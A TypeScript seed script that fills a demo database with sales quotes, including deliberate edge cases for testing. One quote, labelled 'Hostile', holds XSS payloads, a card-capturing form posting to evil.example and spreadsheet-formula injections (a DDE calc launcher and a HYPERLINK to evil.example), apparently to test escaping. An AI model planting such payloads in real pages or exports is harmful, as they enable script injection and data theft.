import type { DatabaseSync, SQLInputValue } from "node:sqlite";
import { millisecondsInDay, millisecondsInHour } from "date-fns/constants";
import { accounts, type DemoAccount } from "#provider/data/accounts.ts";
import { clientIds } from "#provider/data/people.ts";
import { createRandom, type Random } from "#provider/data/random.ts";
import { insert } from "#provider/store/store.ts";
import demo from "./demo-quotes.json" with { type: "json" };
import { fileCases, ordinaryFiles, type StoredFiles } from "./stored-files.ts";

const quoteStatus = { pending: 1, ordered: 2, declined: 3 } as const;
/** How long a quote is valid. */
const VALID_DAYS = 30;
const RARE_SEED = 78;

/** A stored quote line; the description may contain HTML. */
export interface QuoteItem {
  readonly description: string;
  readonly batchSize: number;
  readonly units: number;
  readonly pricePence: number;
  readonly isOptional?: boolean;
  readonly isRecurring?: boolean;
  /** Numbers from 1 to 5. */
  readonly versions: readonly number[];
}

type CatalogueRow = readonly [description: string, pence: number, batchSize: number, isRecurring: boolean];
const catalogue = demo.catalogue as unknown as readonly CatalogueRow[];
const { titles, preparers } = demo;
const counts: Readonly<Record<string, number>> = demo.counts;

/** Adds each account's quotes, and Harbour & Pine Ltd's rare ones. */
export function fillQuotes(db: DatabaseSync, now: Date): void {
  for (const account of accounts) {
    // A factor, so that these random numbers differ from core-migration.ts's.
    const random = createRandom(Number(account.clientId) * 17);
    const count = counts[account.clientId] ?? 0;
    // Account 1001's ids begin at 21001, account 1002's at 22001.
    const firstId = (Number(account.clientId) - 980) * 1000 + 1;
    for (let index = 0; index < count; index += 1) {
      const quotedAt =
        now.getTime() - (count - index) * 4 * millisecondsInDay - random.between(1, 9) * millisecondsInHour;
      // Every third quote shares the previous one's project, and the two are linked.
      const linkedOffsets = [index % 3 === 2 ? -1 : 0, index % 3 === 1 && index + 1 < count ? 1 : 0].filter(
        Boolean,
      );
      addQuote(db, account, random, {
        quote_id: firstId + index,
        project_id: firstId - 14_000 + index - (index % 3 === 2 ? 1 : 0),
        quoted_at: quotedAt,
        status: statusOf(now.getTime() - quotedAt, random),
        linked: JSON.stringify(linkedOffsets.map((offset) => firstId + index + offset)),
        files: JSON.stringify(ordinaryFiles(index, quoteFiles(firstId + index))),
      });
    }
  }
  fillRareQuotes(db, now);
}

const quoteFiles = (quoteId: number) => [`Quote ${quoteId}.pdf`, "Terms of sale.pdf", "Data sheet.pdf"];

function statusOf(age: number, random: Random): number {
  const { pending, ordered, declined } = quoteStatus;
  if (age < VALID_DAYS * millisecondsInDay)
    return random.pick([pending, pending, pending, ordered, declined]);
  return random.pick([pending, ordered, ordered, ordered, declined, declined]);
}

interface RareQuote {
  readonly details: string;
  readonly items?: readonly QuoteItem[];
  readonly changes?: (now: number) => Readonly<Record<string, SQLInputValue>>;
  readonly files?: StoredFiles;
}

const quoteItem = (description: string, changes: Partial<QuoteItem> = {}): QuoteItem => ({
  description,
  batchSize: 1,
  units: 1,
  pricePence: 10_000,
  versions: [1],
  ...changes,
});

const rareQuotes: readonly RareQuote[] = [
  {
    details: "Five versions",
    items: [
      quoteItem("In every version", { versions: [1, 2, 3, 4, 5] }),
      quoteItem("In odd-numbered versions", { units: 3, versions: [1, 3, 5] }),
      quoteItem("Optional, only in the fifth", { pricePence: 249_950, isOptional: true, versions: [5] }),
      quoteItem("Recurring, in the last two", { pricePence: 3_650, isRecurring: true, versions: [4, 5] }),
      quoteItem("In no version", { versions: [] }),
    ],
  },
  { details: "Expired yesterday", changes: (now) => ({ valid_through_at: now - millisecondsInDay }) },
  { details: "Expires today", changes: (now) => ({ valid_through_at: now + millisecondsInHour }) },
  { details: "Expires while you read it", changes: () => ({ valid_through_at: 0, is_fleeting: 1 }) },
  { details: "Without an end", changes: () => ({ valid_through_at: null }) },
  { details: "Ordered, still valid", changes: () => ({ status: quoteStatus.ordered }) },
  { details: "Linked to five", changes: () => ({ linked: "[21001,21002,21003,23001,999999]" }) },
  { details: "No items", items: [] },
  {
    details: "A hundred and twenty items",
    items: Array.from({ length: 120 }, (_, index) =>
      quoteItem(`Site ${index + 1}: router`, { versions: [1, 2] }),
    ),
  },
  { details: "Free of charge", items: [quoteItem("Trial, 90 days", { pricePence: 0 })] },
  {
    details: "Nobody's",
    changes: () => ({ contact_name: null, address: null, prepared_by: null, project_id: null }),
  },
  {
    details: `Hostile <script>document.title="owned"</script><img src=x onerror="document.title='owned'">details`,
    items: [
      quoteItem(
        `<style>body{display:none}</style><a href="javascript:document.title='owned'">Router</a><svg onload="document.title='owned'">`,
      ),
      quoteItem(`<form action="https://evil.example/"><input name="card"></form>=cmd|'/C calc'!A0`),
    ],
    changes: () => ({ contact_name: `"><script>document.title="owned"</script>` }),
  },
  { details: `=HYPERLINK("https://evil.example","Accept")` },
  ...Object.entries(fileCases).map(([details, files]) => ({ details, files })),
];

function fillRareQuotes(db: DatabaseSync, now: Date): void {
  const account = accounts.find(({ clientId }) => clientId === clientIds.harbourPine)!;
  const random = createRandom(RARE_SEED);
  for (const [index, { details, items, changes, files }] of rareQuotes.entries()) {
    const quoteId = 29_001 + index;
    addQuote(db, account, random, {
      quote_id: quoteId,
      project_id: 9_001 + index,
      quoted_at: now.getTime() - 5 * millisecondsInDay,
      status: quoteStatus.pending,
      details,
      linked: "[]",
      files: JSON.stringify(files ?? ordinaryFiles(1, quoteFiles(quoteId))),
      ...(items && { items: JSON.stringify(items) }),
      ...changes?.(now.getTime()),
    });
  }
}

function addQuote(
  db: DatabaseSync,
  { clientId, addresses }: DemoAccount,
  random: Random,
  columns: Readonly<Record<string, SQLInputValue>> & { readonly quoted_at: number },
): void {
  const { line1, line2 = "", town, postCode } = addresses[0]!;
  const [name, position, email, phone] = random.pick(preparers);
  const contact = random.pick(
    db
      .prepare(
        "SELECT first_names || ' ' || surname AS name FROM contacts WHERE client_id = ? AND is_employee = 0 ORDER BY contact_id LIMIT 12",
      )
      .all(clientId),
  );
  const row = {
    client_id: clientId,
    contact_name: String(contact.name),
    address: JSON.stringify({ line1, line2, town, county: null, postCode }),
    prepared_by: JSON.stringify({ name, position, email, phone }),
    details: random.pick(titles),
    items: JSON.stringify(makeItems(random)),
    valid_through_at: endOfDay(columns.quoted_at + VALID_DAYS * millisecondsInDay),
    ...columns,
  };
  const items = JSON.parse(String(row.items)) as QuoteItem[];
  const versions = versionsOf(items);
  const value = totalPence(items, versions[0] ?? 1);
  insert(db, "quotes", {
    ...row,
    line_count: items.length,
    version_count: versions.length,
    value_pence: value,
  });
}

function makeItems(random: Random): QuoteItem[] {
  const versionCount = random.pick([1, 1, 1, 2, 2, 3]);
  const allVersions = Array.from({ length: versionCount }, (_, index) => index + 1);
  return catalogue
    .filter((_, index) => index === 0 || random.chance(0.4))
    .map(([description, pricePence, batchSize, isRecurring], index) => ({
      description,
      batchSize,
      units: random.between(1, 12),
      pricePence,
      isRecurring,
      isOptional: random.chance(0.2),
      versions: index === 0 ? allVersions : allVersions.filter(() => random.chance(0.8)),
    }));
}

/** The versions with items, in ascending order. */
export function versionsOf(items: readonly QuoteItem[]): number[] {
  return [1, 2, 3, 4, 5].filter((version) => items.some(({ versions }) => versions.includes(version)));
}

/** A version's total, including optional items. */
export function totalPence(items: readonly QuoteItem[], version: number): number {
  return items
    .filter(({ versions }) => versions.includes(version))
    .reduce((sum, { units, pricePence }) => sum + units * pricePence, 0);
}

function endOfDay(time: number): number {
  return Math.ceil(time / millisecondsInDay) * millisecondsInDay - 1000;
}
